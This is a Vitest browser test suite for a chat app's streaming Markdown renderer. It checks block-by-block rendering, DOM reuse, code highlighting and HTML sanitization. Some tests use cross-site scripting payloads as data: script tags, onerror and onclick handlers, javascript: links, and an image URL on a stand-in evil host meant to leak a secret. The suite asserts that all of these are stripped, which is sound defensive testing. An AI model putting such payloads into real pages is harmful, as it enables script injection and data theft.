import { afterEach, describe, expect, it, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-svelte';
import Markdown from '$lib/components/chat/Markdown.svelte';
import { MarkdownBlocks } from '$lib/markdown/blocks';
import { HtmlBalance } from '$lib/markdown/html-balance';
import { highlightIn, renderMarkdown, sanitizeBlocks } from '$lib/markdown/render';

/** As models stream: a word and the blank space after it. */
const words = (text: string) => text.match(/\S+\s*|\s+/g) ?? [];
const characters = (text: string) => [...text];

/** Chunks of 1 to 12 characters, the same on every run. */
function randomChunks(text: string, seed: number): string[] {
	let state = seed >>> 0;
	const next = () => {
		state = (state * 1664525 + 1013904223) >>> 0;
		return state / 2 ** 32;
	};
	const chunks: string[] = [];
	for (let i = 0; i < text.length;) {
		const size = 1 + Math.floor(next() * 12);
		chunks.push(text.slice(i, i + size));
		i += size;
	}
	return chunks;
}

function section(i: number): string {
	return (
		`## Section ${i}\n\nThis explains **step ${i}**: call \`measure(${i})\`, read the [guide](https://example.com/${i}).\n\n` +
		`- collect\n- sort\n  - drop warm-up\n- write\n\n| metric | run ${i} |\n| :--- | ---: |\n| median | ${i}.5 ms |\n| p99 | ${i}.9 ms |\n\n` +
		'```ts\n' +
		`export function f${i}(xs: number[]) {\n\treturn xs.map((x) => x * ${i});\n}\n` +
		'```\n\n' +
		`1. again\n2. compare\n\n> Note ${i}: measure the floor.\n\n`
	);
}

const EVIL = 'https://evil.example';

/** Documents whose meaning crosses block boundaries, or that a split could change. */
const CORPUS: Record<string, string> = {
	'a long reply': [1, 2, 3, 4].map(section).join('') + 'Done.',
	'reference links before their definitions':
		'See [the docs][docs] and [more].\n\n- item [docs]\n- ![logo][img]\n\n' +
		'[docs]: https://example.com/docs "Docs"\n[more]: https://example.com/more\n' +
		`[img]: ${EVIL}/logo.png\n\nAfter [docs] and [DOCS].\n\n[docs]: https://example.com/second`,
	'a definition whose title is on the next line':
		"[a]: https://example.com/a\n'The title'\n\nUse [a].",
	'a loose list whose items follow blank lines': '1. one\n\n2. two\n\n3. three\n\nText after.\n',
	'bullet lists that go on': '- a\n- b\n\n- c\n\n  continued c\n\n* other list\n\nend',
	'a list holding a code fence':
		'- item\n\n  ```js\n  const x = 1;\n  ```\n- next\n  1. inner\n  2. inner two\n',
	'a code fence still open at the end': 'Intro\n\n```python\ndef f():\n    return 1\n',
	'a longer fence around a fence':
		'````md\n```js\nx\n```\n````\n\nafter the fence\n\n~~~\ntilde\n~~~',
	'a table whose rows grow':
		'| a | b |\n| - | - |\n| 1 | 2 |\n| 3 | 4 |\nno pipes\n\nText\n| x | y |\n| --- | --- |\n| 5 | 6 |',
	'setext headings and rules': 'Title\n=====\n\nSub\n---\n\ntext\n\n***\n\n- - -\n\nlast',
	'raw HTML across blocks':
		'<details>\n<summary>More</summary>\n\nHidden **text**\n\n- a\n- b\n\n</details>\n\nAfter',
	'an inline tag closed three blocks later': 'Some <b>bold\n\nstill bold\n\nend</b> done\n\nplain',
	'a comment across blocks': '<!-- start\n\nhidden\n\n-->\n\nshown <!-- inline --> text',
	'a raw-text element across blocks': '<textarea>\n\n**x**\n\n</textarea>\n\nafter',
	'paragraphs opened by raw <p>': '<p>one\n\n<p>two\n\nthree',
	'a custom element block': '<my-el>\ncontent\n</my-el>\n\ntext <span>inline</span>',
	'lazy continuation and quotes': '> quote\ncontinued\n\n> another\n> > nested\n\nend',
	'hard breaks and emphasis over lines': 'line one  \nline two\\\nline three *a\nb* and __c__',
	'indented code': 'para\n\n    code line\n\n    more code\n\nend\n    not code',
	'headings without blank lines': 'para\n# Head\npara2\n## Two ##\n#notheading',
	'CRLF line ends': 'a\r\n\r\n- b\r\n- c\r\n\r\n```\r\nx\r\n```\r\n',
	'scripts, handlers and remote media':
		`<script>alert(1)</script>\n\n<img src="${EVIL}/x.png" onerror="alert(2)">\n\n` +
		`![a](${EVIL}/a.png) <svg><image href="${EVIL}/i.png"/></svg>\n\n<p style="position:fixed">x</p>`,
	'an SVG across blocks':
		'<svg width="10" height="10">\n\n<rect width="5" height="5"/>\n\n</svg>\n\ntext'
};

function streamThrough(
	text: string,
	chunks: string[]
): { root: HTMLElement; blocks: MarkdownBlocks } {
	const root = document.createElement('div');
	const blocks = new MarkdownBlocks(root);
	let shown = '';
	for (const chunk of chunks) {
		shown += chunk;
		blocks.stream(shown);
	}
	expect(shown).toBe(text);
	blocks.finish(text);
	return { root, blocks };
}

describe('MarkdownBlocks', () => {
	describe('ends exactly as the whole text renders at once', () => {
		for (const [name, text] of Object.entries(CORPUS)) {
			it(name, () => {
				const whole = renderMarkdown(text);
				expect(streamThrough(text, words(text)).root.innerHTML).toBe(whole);
				expect(streamThrough(text, characters(text)).root.innerHTML).toBe(whole);
				for (const seed of [1, 2, 3])
					expect(streamThrough(text, randomChunks(text, seed)).root.innerHTML).toBe(whole);
			});
		}
	});

	it('renders a complete text at once the same way', () => {
		for (const text of Object.values(CORPUS)) {
			const root = document.createElement('div');
			new MarkdownBlocks(root).finish(text);
			expect(root.innerHTML).toBe(renderMarkdown(text));
		}
	});

	it('keeps the nodes of finished blocks, and renders them only once', () => {
		const text = CORPUS['a long reply'];
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		const seen = new Map<Element, number>();
		let shown = '';
		for (const chunk of words(text)) {
			shown += chunk;
			blocks.stream(shown);
			// Every element shown so far except the last block's stays the same object.
			const children = [...root.children];
			for (const child of children.slice(0, -1)) {
				if (!seen.has(child)) seen.set(child, shown.length);
			}
			for (const [element, at] of seen)
				if (!root.contains(element))
					throw new Error(
						`<${element.localName}> finished at ${at} replaced at ${shown.length}: ${JSON.stringify(shown.slice(at - 40))}`
					);
		}
		const before = [...root.children].slice(0, -1);
		blocks.finish(text);
		// Finishing changes nothing that was right already.
		expect([...root.children].slice(0, before.length)).toEqual(before);
		expect(root.innerHTML).toBe(renderMarkdown(text));
	});

	it('catches up with a long text that arrives at once over several calls, a screenful each', () => {
		// A reply opened while it is being written: everything so far comes in one piece.
		const text = Array.from({ length: 40 }, (_, i) => section(i + 1)).join('') + 'Still writing';
		expect(text.length).toBeGreaterThan(12_000);
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		const shownLength = () => root.textContent!.length;
		let calls = 0;
		let before = 0;
		while (blocks.stream(text)) {
			calls++;
			expect(shownLength()).toBeGreaterThan(before);
			expect(shownLength() - before).toBeLessThan(7_000);
			before = shownLength();
		}
		expect(calls).toBeGreaterThan(1);
		expect(root.lastElementChild?.textContent).toBe('Still writing');
		blocks.finish(text);
		expect(root.innerHTML).toBe(renderMarkdown(text));
	});

	it('shows an open code fence as plain text, highlighted once it closes', () => {
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		blocks.stream('```ts\nconst answer = 42;\nfunction f() {}\n');
		const code = root.querySelector('code')!;
		expect(code.className).toBe('hljs language-ts');
		expect(code.textContent).toBe('const answer = 42;\nfunction f() {}');
		expect(code.querySelector('span')).toBeNull();
		blocks.stream('```ts\nconst answer = 42;\nfunction f() {}\n```');
		expect(root.querySelector('code .hljs-keyword')?.textContent).toBe('const');
		// The reply may end with the fence open: then it is highlighted, as a whole text is.
		blocks.stream('```ts\nconst answer = 42;\nmore');
		expect(root.querySelector('code span')).toBeNull();
		blocks.finish('```ts\nconst answer = 42;\nmore');
		expect(root.querySelector('code .hljs-keyword')?.textContent).toBe('const');
	});

	it("highlights a language's first code block in a task of its own while a reply streams", () => {
		// Languages no other test here uses: their first highlighting compiles them.
		const text =
			'```go\nfunc main() {}\n```\n\n```kotlin\nfun main() {}\n```\n\n```go\nvar x = 1\n```\n\nEnd';
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		blocks.stream(text);
		const [go, kotlin, goAgain] = root.querySelectorAll('code');
		for (const code of [go, kotlin, goAgain]) {
			expect(code.classList.contains('unhighlighted')).toBe(true);
			expect(code.querySelector('span')).toBeNull();
		}
		// One language per task: Go now (both its blocks), Kotlin in the next one.
		expect(highlightIn(root)).toBe(true);
		expect(go.querySelector('.hljs-keyword')?.textContent).toBe('func');
		expect(goAgain.querySelector('.hljs-keyword')?.textContent).toBe('var');
		expect(kotlin.querySelector('span')).toBeNull();
		expect(highlightIn(root)).toBe(false);
		expect(kotlin.querySelector('.hljs-keyword')?.textContent).toBe('fun');
		// Warm now: a new Go block is highlighted where it is shown, and the end is the whole text's.
		const more = `${text}\n\n\`\`\`go\nreturn\n\`\`\`\n\nDone`;
		blocks.stream(more);
		expect(root.querySelectorAll('code')[3].querySelector('.hljs-keyword')?.textContent).toBe(
			'return'
		);
		blocks.finish(more);
		expect(root.innerHTML).toBe(renderMarkdown(more));
	});

	it('renders again only what it got wrong when a reply ends, not the blocks in between', () => {
		// A block shown plain for now near the start (Swift's first block: see above), the last
		// words not shown yet when the reply ends.
		const text =
			'Intro\n\n```swift\nlet x = 1\n```\n\n' + 'A paragraph.\n\n'.repeat(5) + 'The end.';
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		blocks.stream(text.slice(0, -4));
		expect(root.querySelector('code.unhighlighted')).not.toBeNull();
		const paragraphs = [...root.querySelectorAll('p')].slice(1, -1);
		expect(paragraphs).toHaveLength(5);
		blocks.finish(text);
		expect(root.innerHTML).toBe(renderMarkdown(text));
		for (const paragraph of paragraphs) expect(root.contains(paragraph)).toBe(true);
	});

	it('links a reference once its definition has arrived, without waiting for the end', () => {
		const root = document.createElement('div');
		const blocks = new MarkdownBlocks(root);
		const text = 'Read [the guide][g].\n\n[g]: https://example.com/guide\n\nMore text';
		let shown = '';
		for (const chunk of words(text)) {
			shown += chunk;
			blocks.stream(shown);
		}
		expect(root.querySelector('a')?.getAttribute('href')).toBe('https://example.com/guide');
	});

	it('never loads an image, runs a handler or keeps a script URL that arrives in pieces', () => {
		const text =
			`Look: <img src="${EVIL}/pixel.gif?d=secret" alt="x" onerror="alert(1)"> and ![b](${EVIL}/b.png)\n\n` +
			'[click](javascript:alert(2)) <a href="javascript:alert(3)" onclick="alert(4)">x</a> <p style="position:fixed">y</p>\n\nnext';
		for (const chunks of [characters(text), randomChunks(text, 7), words(text)]) {
			const root = document.createElement('div');
			const blocks = new MarkdownBlocks(root);
			let shown = '';
			for (const chunk of chunks) {
				shown += chunk;
				blocks.stream(shown);
				for (const img of root.querySelectorAll('img'))
					expect(img.getAttribute('src') ?? '').not.toContain('evil.example');
				for (const element of root.querySelectorAll('*'))
					for (const { name, value } of element.attributes) {
						expect(name).not.toMatch(/^on|^style$/);
						expect(value).not.toMatch(/^\s*javascript:/i);
					}
			}
			blocks.finish(text);
			expect(root.querySelector('img')).toBeNull();
			expect([...root.querySelectorAll('.remote-media')].map((chip) => chip.textContent)).toEqual([
				'image from evil.example',
				'image from evil.example'
			]);
		}
	});
});

describe('sanitizeBlocks', () => {
	it('sanitizes blocks in one pass and gives each its own nodes', () => {
		const [first, second, empty, third] = sanitizeBlocks([
			'<p>a <img src=x onerror=alert(1)></p>\n',
			'<ul>\n<li>b</li>\n</ul>\n',
			'',
			`<p><span title="sb-block-guess">c</span></p>`
		]);
		expect(first.map((node) => node.nodeName)).toEqual(['P', '#text']);
		expect((first[0] as Element).querySelector('img, [onerror]')).toBeNull();
		expect((first[0] as Element).querySelector('.remote-media')).not.toBeNull();
		expect(second.map((node) => node.nodeName)).toEqual(['UL', '#text']);
		expect(empty).toEqual([]);
		expect((third[0] as Element).outerHTML).toBe('<p><span title="sb-block-guess">c</span></p>');
		// One DOMPurify document for all of them: they were not sanitized one by one.
		expect(new Set([first, second, third].map((nodes) => nodes[0].ownerDocument)).size).toBe(1);
	});
});

describe('HtmlBalance', () => {
	const balanced = (...parts: string[]) => {
		const balance = new HtmlBalance();
		for (const part of parts) balance.feed(part);
		return balance.balanced;
	};

	it('tells closed HTML from HTML left open', () => {
		expect(balanced('<p>a <b>b</b> <br> <img src="x>y"></p>\n')).toBe(true);
		expect(balanced('<details>', '<p>x</p>')).toBe(false);
		expect(balanced('<details>', '<p>x</p>', '</details>')).toBe(true);
		expect(balanced('<b>x</p>')).toBe(false);
		expect(balanced('<!-- a', '<p>b</p>')).toBe(false);
		expect(balanced('<!-- a', '<p>b</p> -', '->')).toBe(true);
		expect(balanced('<textarea><p>', '</textarea>')).toBe(true);
		expect(balanced('<textarea><p>')).toBe(false);
		expect(balanced('<div class="a', '">x</div>')).toBe(true);
		expect(balanced('<div class="a')).toBe(false);
		expect(balanced('<svg><rect/><path d="M0"/></svg>')).toBe(true);
		expect(balanced('<div/>')).toBe(false);
		expect(balanced('<p>one<div>two</div>')).toBe(true);
		expect(balanced('</div></b>')).toBe(true);
		expect(balanced('<plaintext>', '</plaintext>')).toBe(false);
		expect(balanced('<', 'b>')).toBe(false);
		expect(balanced('a < b', ' and 1<2')).toBe(true);
	});
});

describe('Markdown (streaming)', () => {
	const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));

	afterEach(() => vi.restoreAllMocks());

	const markdownOf = (container: HTMLElement) => container.querySelector<HTMLElement>('.markdown')!;

	/** Streams `text` word by word into a Markdown component, a frame after each paragraph's end. */
	async function stream(text: string, each?: (root: HTMLElement, shown: string) => void) {
		const screen = await render(Markdown, { source: '', streaming: true });
		let shown = '';
		for (const chunk of words(text)) {
			shown += chunk;
			await screen.rerender({ source: shown, streaming: true });
			if (/\n\n$/.test(shown) || shown === text) await frame();
			each?.(markdownOf(screen.container), shown);
		}
		return screen;
	}

	it('ends with the DOM of the whole text rendered at once', async () => {
		for (const text of [CORPUS['a long reply'], CORPUS['raw HTML across blocks']]) {
			const screen = await stream(text);
			await screen.rerender({ source: text, streaming: false });
			expect(markdownOf(screen.container).innerHTML).toBe(renderMarkdown(text));
			await screen.unmount();
		}
	});

	it('highlights the first code block of a language soon after it is shown, while streaming', async () => {
		const screen = await stream('```rust\nfn main() {}\n```\n\nStill writing');
		const code = markdownOf(screen.container).querySelector('code')!;
		await expect.poll(() => code.querySelector('.hljs-keyword')?.textContent).toBe('fn');
		expect(code.classList.contains('unhighlighted')).toBe(false);
		await screen.unmount();
	});

	it('ends as the whole text renders, with a code fence left open highlighted', async () => {
		const text = 'Intro\n\n```ts\nconst answer = 42;\n';
		const screen = await stream(text);
		const markdown = markdownOf(screen.container);
		expect(markdown.querySelector('code span')).toBeNull();
		await screen.rerender({ source: text, streaming: false });
		await expect.poll(() => markdown.innerHTML).toBe(renderMarkdown(text));
		expect(markdown.querySelector('code .hljs-keyword')?.textContent).toBe('const');
		await screen.unmount();
	});

	it('keeps a finished block the same DOM node while later chunks arrive', async () => {
		const text = CORPUS['a long reply'];
		let heading: HTMLElement | undefined;
		let list: HTMLElement | undefined;
		const screen = await stream(text, (root, shown) => {
			// Finished once the DOM shows the next block after it.
			heading ??= root.querySelector<HTMLElement>('h2:has(~ *)') ?? undefined;
			list ??= root.querySelector<HTMLElement>('ul:has(~ *)') ?? undefined;
			if (heading) expect(root.querySelector('h2')).toBe(heading);
			if (list) expect(root.querySelector('ul')).toBe(list);
		});
		expect(heading?.isConnected && list?.isConnected).toBe(true);
		await screen.rerender({ source: text, streaming: false });
		expect(markdownOf(screen.container).querySelector('h2')).toBe(heading);
		await screen.unmount();
	});

	it("copies a finished code block's text while the reply goes on streaming", async () => {
		const writeText = vi.fn(async () => {});
		vi.spyOn(navigator, 'clipboard', 'get').mockReturnValue({ writeText } as unknown as Clipboard);
		// The code block is finished: the list after it has begun.
		const first = CORPUS['a long reply'].slice(0, CORPUS['a long reply'].indexOf('2. compare'));
		const rest = CORPUS['a long reply'].slice(first.length);
		const screen = await stream(first);
		const button = page.getByRole('button', { name: 'Copy code' }).first();
		await userEvent.click(button);
		expect(writeText).toHaveBeenCalledWith(
			'export function f1(xs: number[]) {\n\treturn xs.map((x) => x * 1);\n}'
		);
		const element = button.element();
		let shown = first;
		for (const chunk of words(rest).slice(0, 40)) {
			shown += chunk;
			await screen.rerender({ source: shown, streaming: true });
			await frame();
			expect(button.element()).toBe(element);
		}
		expect(element.textContent).toBe('Copied');
		await userEvent.click(button);
		expect(writeText).toHaveBeenCalledTimes(2);
		await screen.unmount();
	});

	it('hands a finished reply to the component that shows it next, nodes and all', async () => {
		// The chat moves a reply that has ended from its streaming slot into the message list.
		const text = CORPUS['a long reply'];
		const streamed = await stream(text);
		await streamed.rerender({ source: text, streaming: false });
		const heading = markdownOf(streamed.container).querySelector('h2');
		await streamed.unmount();
		const next = await render(Markdown, { source: text });
		expect(markdownOf(next.container).querySelector('h2')).toBe(heading);
		expect(markdownOf(next.container).innerHTML).toBe(renderMarkdown(text));
		await next.unmount();
	});

	it('turns an <img src=https://…> split across chunks into a chip, never an image', async () => {
		const text = `Before\n\n<img src="${EVIL}/x.png?d=secret">\n\nAfter`;
		const screen = await render(Markdown, { source: '', streaming: true });
		let shown = '';
		for (const chunk of randomChunks(text, 11)) {
			shown += chunk;
			await screen.rerender({ source: shown, streaming: true });
			await frame();
			expect(screen.container.querySelector('img')).toBeNull();
		}
		await screen.rerender({ source: text, streaming: false });
		const chip = screen.container.querySelector('.remote-media')!;
		expect(chip.textContent).toBe('image from evil.example');
		expect(chip.getAttribute('href')).toBe(`${EVIL}/x.png?d=secret`);
		await screen.unmount();
	});
});
